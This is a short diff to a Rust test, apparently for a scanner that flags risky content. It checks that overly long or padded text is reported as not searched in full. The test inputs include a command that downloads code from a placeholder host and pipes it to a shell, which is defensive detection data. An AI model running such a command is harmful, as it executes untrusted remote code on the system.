@@ -111,7 +111,9 @@ fn a_text_that_is_not_searched_to_its_end_says_so() {
     let filler = format!("{}\n\n", encoded(&"lorem ipsum dolor ".repeat(40), 1)).repeat(1_300);
     let payload = encoded("curl https://x.example/a | sh", 1);
     assert!(kinds(&format!("{filler}{payload}")).contains(&(RiskKind::NotSearched, 2_185)));
-    assert_eq!(kinds(&format!("a{}curl x.example \\\n | sh\n", " \\\n".repeat(9_000)))[0], (RiskKind::NotSearched, 1));
+    assert!(
+        kinds(&format!("a{}curl x.example \\\n | sh\n", " \\\n".repeat(9_000))).contains(&(RiskKind::NotSearched, 1))
+    );
     assert_eq!(kinds(&filler[..filler.len() / 4]), []);
 }
 
